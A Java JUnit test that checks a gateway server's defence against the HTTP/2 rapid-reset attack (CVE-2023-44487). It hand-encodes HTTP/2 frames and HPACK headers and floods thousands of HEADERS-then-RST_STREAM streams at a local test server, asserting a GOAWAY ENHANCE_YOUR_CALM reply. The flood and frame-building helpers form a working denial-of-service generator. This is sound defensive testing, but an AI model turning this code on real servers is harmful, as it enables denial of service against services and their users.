package dev.portcullis.server;

import static org.assertj.core.api.Assertions.assertThat;

import dev.portcullis.orgsim.OidcIssuerSimulator;
import dev.portcullis.policy.PolicyBundle;
import dev.portcullis.server.config.Config;
import dev.portcullis.server.config.ConfigLoader;
import dev.portcullis.server.config.TestFiles;
import java.io.ByteArrayOutputStream;
import java.io.DataInputStream;
import java.io.EOFException;
import java.io.IOException;
import java.io.OutputStream;
import java.net.SocketException;
import java.net.URI;
import java.net.URLEncoder;
import java.net.http.HttpClient;
import java.net.http.HttpRequest;
import java.net.http.HttpResponse;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.time.Duration;
import java.util.Map;
import java.util.concurrent.CompletableFuture;
import java.util.concurrent.TimeUnit;
import javax.net.ssl.SSLContext;
import javax.net.ssl.SSLParameters;
import javax.net.ssl.SSLSocket;
import org.junit.jupiter.api.AfterEach;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;

/**
 * The HTTP/2 rapid-reset attack (CVE-2023-44487) against the gateway's TLS listener, written frame by
 * frame (RFC 9113 framing, RFC 7541 HPACK) as an attacker would, not through a polite client: each
 * stream is a {@code HEADERS} for an allowed query with a valid session, at once cancelled by {@code
 * RST_STREAM}, thousands of times as fast as the socket takes them. The server must end the
 * connection with {@code GOAWAY ENHANCE_YOUR_CALM} once the connection passes its control-event rate
 * (docs/GATEWAY.md, "HTTP versions"), let few of the streams reach Salesforce, and keep serving
 * other clients.
 */
class GatewayRapidResetTest {
  static final Duration TIMEOUT = Duration.ofSeconds(30);
  /** Streams opened and reset when the server lets them all through: far beyond any limit. */
  static final int STREAMS = 5_000;
  /** RFC 9113 §7: ENHANCE_YOUR_CALM. */
  static final int ENHANCE_YOUR_CALM = 0xb;
  /** RFC 9113 §7: CANCEL. */
  static final int CANCEL = 0x8;
  static final int HEADERS = 0x1;
  static final int RST_STREAM = 0x3;
  static final int SETTINGS = 0x4;
  static final int GOAWAY = 0x7;

  @TempDir Path dir;
  TestPki.Issued serverCa;
  OidcIssuerSimulator issuers;
  RecordingUpstream upstream;
  PortcullisServer server;
  SSLContext tls;
  String session;

  @BeforeEach
  void start() throws Exception {
    serverCa = TestPki.ca("Gateway Test CA");
    TestPki.Issued certificate = TestPki.server(serverCa);
    TestFiles.write(dir.resolve("certs/server.pem"), TestFiles.pem("CERTIFICATE", certificate.certificate().getEncoded()));
    TestFiles.write(dir.resolve("certs/server-key.pem"),
        TestFiles.pem("PRIVATE KEY", certificate.keys().getPrivate().getEncoded()));
    TestFiles.writeRsaKey(dir.resolve("keys/prod.pem"));
    issuers = OidcIssuerSimulator.builder().port(0).githubAudience("portcullis").start();
    upstream = RecordingUpstream.start();
    Path policies = Files.createDirectories(dir.resolve("policies"));
    PolicyBundle.writeDefault(policies);
    Config config = ConfigLoader.load(TestFiles.write(dir.resolve("portcullis.yaml"), """
        server:
          admin: { host: 127.0.0.1, port: 0 }
          gateway: { host: 127.0.0.1, port: 0 }
          tls: { certificate: certs/server.pem, private_key: certs/server-key.pem }
        broker: { policies: policies }
        """ + BrokerTestConfig.githubIssuer(issuers.github().issuer(), issuers.github().jwksUri())
        + BrokerTestConfig.prodOrgWithReader(BrokerTestConfig.PROD_ID)), Map.of());
    server = PortcullisServer.start(config, dir.resolve("data"),
        c -> BrokerTestConfig.salesforceAt(upstream.url(), BrokerTestConfig.PROD_ID));
    tls = TestPki.clientContext(serverCa, null);
    try (HttpClient http = HttpClient.newBuilder().sslContext(tls).version(HttpClient.Version.HTTP_1_1).build()) {
      session = BrokerTestConfig.exchange(http, server.gatewayUrl().orElseThrow(), issuers.github().mint(Map.of()),
          "api:read").get("access_token").asText();
    }
  }

  @AfterEach
  void stop() {
    for (AutoCloseable closeable : new AutoCloseable[] {server, issuers, upstream}) {
      try {
        if (closeable != null) {
          closeable.close();
        }
      } catch (Exception e) {
        throw new IllegalStateException(e);
      }
    }
  }

  static String path() {
    return "/services/data/v62.0/query?q=" + URLEncoder.encode("SELECT Id FROM Account", StandardCharsets.UTF_8);
  }

  @Test
  void aRapidResetFloodGetsGoawayEnhanceYourCalmAndReachesSalesforceAtMostAFewTimes() throws Exception {
    URI gateway = server.gatewayUrl().orElseThrow();
    int flooded;
    Goaway goaway;
    try (SSLSocket socket = (SSLSocket) tls.getSocketFactory().createSocket("127.0.0.1", gateway.getPort())) {
      SSLParameters parameters = socket.getSSLParameters();
      parameters.setApplicationProtocols(new String[] {"h2"});
      socket.setSSLParameters(parameters);
      socket.setSoTimeout((int) TIMEOUT.toMillis());
      socket.startHandshake();
      assertThat(socket.getApplicationProtocol()).as("ALPN").isEqualTo("h2");
      OutputStream out = socket.getOutputStream();
      CompletableFuture<Goaway> reader = CompletableFuture.supplyAsync(() -> readUntilClosed(socket, out));
      synchronized (out) {
        out.write("PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n".getBytes(StandardCharsets.US_ASCII)); // RFC 9113 §3.4
        out.write(frame(SETTINGS, 0, 0, new byte[0]));
        out.flush();
      }
      byte[] block = headerBlock(gateway.getAuthority(), path(), "Bearer " + session);
      flooded = flood(out, block);
      try {
        goaway = reader.get(TIMEOUT.toSeconds(), TimeUnit.SECONDS);
      } catch (java.util.concurrent.TimeoutException e) {
        throw new AssertionError("the server kept the connection open for " + TIMEOUT + " after " + flooded
            + " streams were opened and reset", e);
      }
    }

    System.out.printf("rapid reset: %d streams written, %s, %d reached the upstream%n", flooded, goaway,
        upstream.requests.size());
    assertThat(goaway).as("the server said why it closed the connection").isNotNull();
    assertThat(goaway.errorCode()).as("GOAWAY error code").isEqualTo(ENHANCE_YOUR_CALM);
    int reached = upstream.requests.size();
    assertThat(reached).as("reset streams that reached Salesforce anyway")
        .isLessThanOrEqualTo(PortcullisServer.HTTP2_MAX_CONCURRENT_STREAMS);
    assertThat(goaway.lastStreamId()).as("the last stream the server took: no more streams than control events allowed")
        .isLessThanOrEqualTo(2 * PortcullisServer.HTTP2_MAX_EVENTS_PER_SECOND + 1);

    try (HttpClient http = HttpClient.newBuilder().sslContext(tls).version(HttpClient.Version.HTTP_2).build()) {
      HttpResponse<String> normal = http.send(HttpRequest.newBuilder(gateway.resolve(path())).timeout(TIMEOUT)
          .header("Authorization", "Bearer " + session).build(), HttpResponse.BodyHandlers.ofString());
      assertThat(normal.statusCode()).as(normal.body()).isEqualTo(200);
      assertThat(normal.version()).isEqualTo(HttpClient.Version.HTTP_2);
    }
    assertThat(upstream.requests).hasSize(reached + 1);
  }

  /**
   * Writes HEADERS (END_STREAM, END_HEADERS) and RST_STREAM (CANCEL) for {@value #STREAMS} new streams,
   * in batches, until done or the server closed the connection; returns how many were written.
   */
  private static int flood(OutputStream out, byte[] block) {
    ByteArrayOutputStream batch = new ByteArrayOutputStream();
    int written = 0;
    try {
      for (int i = 0; i < STREAMS; i++) {
        int stream = 2 * i + 1; // client streams are odd and increasing
        batch.writeBytes(frame(HEADERS, 0x1 | 0x4, stream, block));
        batch.writeBytes(frame(RST_STREAM, 0, stream, int32(CANCEL)));
        if (batch.size() > 16 * 1024 || i == STREAMS - 1) {
          synchronized (out) {
            out.write(batch.toByteArray());
            out.flush();
          }
          written = i + 1;
          batch.reset();
        }
      }
    } catch (IOException e) {
      // the server closed the connection: what the test waits for
    }
    return written;
  }

  /** A GOAWAY frame's fields (RFC 9113 §6.8). */
  record Goaway(int lastStreamId, int errorCode) {}

  /** Reads frames until the server closes the connection, acknowledging its SETTINGS; the GOAWAY, if any. */
  private static Goaway readUntilClosed(SSLSocket socket, OutputStream out) {
    Goaway goaway = null;
    try {
      DataInputStream in = new DataInputStream(socket.getInputStream());
      while (true) {
        int length = in.readUnsignedByte() << 16 | in.readUnsignedShort();
        int type = in.readUnsignedByte();
        int flags = in.readUnsignedByte();
        in.readInt(); // stream id
        byte[] payload = in.readNBytes(length);
        if (payload.length < length) {
          return goaway;
        }
        if (type == SETTINGS && (flags & 0x1) == 0) {
          synchronized (out) {
            out.write(frame(SETTINGS, 0x1, 0, new byte[0])); // ACK
            out.flush();
          }
        } else if (type == GOAWAY) {
          java.nio.ByteBuffer fields = java.nio.ByteBuffer.wrap(payload);
          goaway = new Goaway(fields.getInt() & 0x7fffffff, fields.getInt());
        }
      }
    } catch (EOFException | SocketException e) {
      return goaway; // closed by the server
    } catch (IOException e) {
      throw new java.io.UncheckedIOException(e);
    }
  }

  /** One frame: 24-bit length, type, flags, 31-bit stream id, payload (RFC 9113 §4.1). */
  static byte[] frame(int type, int flags, int stream, byte[] payload) {
    byte[] frame = new byte[9 + payload.length];
    frame[0] = (byte) (payload.length >>> 16);
    frame[1] = (byte) (payload.length >>> 8);
    frame[2] = (byte) payload.length;
    frame[3] = (byte) type;
    frame[4] = (byte) flags;
    System.arraycopy(int32(stream & 0x7fffffff), 0, frame, 5, 4);
    System.arraycopy(payload, 0, frame, 9, payload.length);
    return frame;
  }

  static byte[] int32(int value) {
    return new byte[] {(byte) (value >>> 24), (byte) (value >>> 16), (byte) (value >>> 8), (byte) value};
  }

  /**
   * A GET's header block in HPACK without Huffman coding or indexing (RFC 7541): {@code :method GET}
   * and {@code :scheme https} from the static table, {@code :authority}, {@code :path} and {@code
   * authorization} as literals with static-table names (indices 1, 4 and 23).
   */
  static byte[] headerBlock(String authority, String path, String authorization) {
    ByteArrayOutputStream block = new ByteArrayOutputStream();
    block.write(0x82); // indexed 2, :method GET
    block.write(0x87); // indexed 7, :scheme https
    literal(block, 1, authority);
    literal(block, 4, path);
    literal(block, 23, authorization);
    return block.toByteArray();
  }

  /** Literal header field without indexing, indexed name (RFC 7541 §6.2.2): 0000 + 4-bit-prefix index. */
  private static void literal(ByteArrayOutputStream block, int nameIndex, String value) {
    integer(block, 0x00, 4, nameIndex);
    byte[] bytes = value.getBytes(StandardCharsets.UTF_8);
    integer(block, 0x00, 7, bytes.length); // H = 0: not Huffman-coded
    block.writeBytes(bytes);
  }

  /** An integer with an N-bit prefix (RFC 7541 §5.1). */
  private static void integer(ByteArrayOutputStream block, int high, int prefixBits, int value) {
    int max = (1 << prefixBits) - 1;
    if (value < max) {
      block.write(high | value);
      return;
    }
    block.write(high | max);
    value -= max;
    while (value >= 128) {
      block.write(value % 128 + 128);
      value /= 128;
    }
    block.write(value);
  }
}
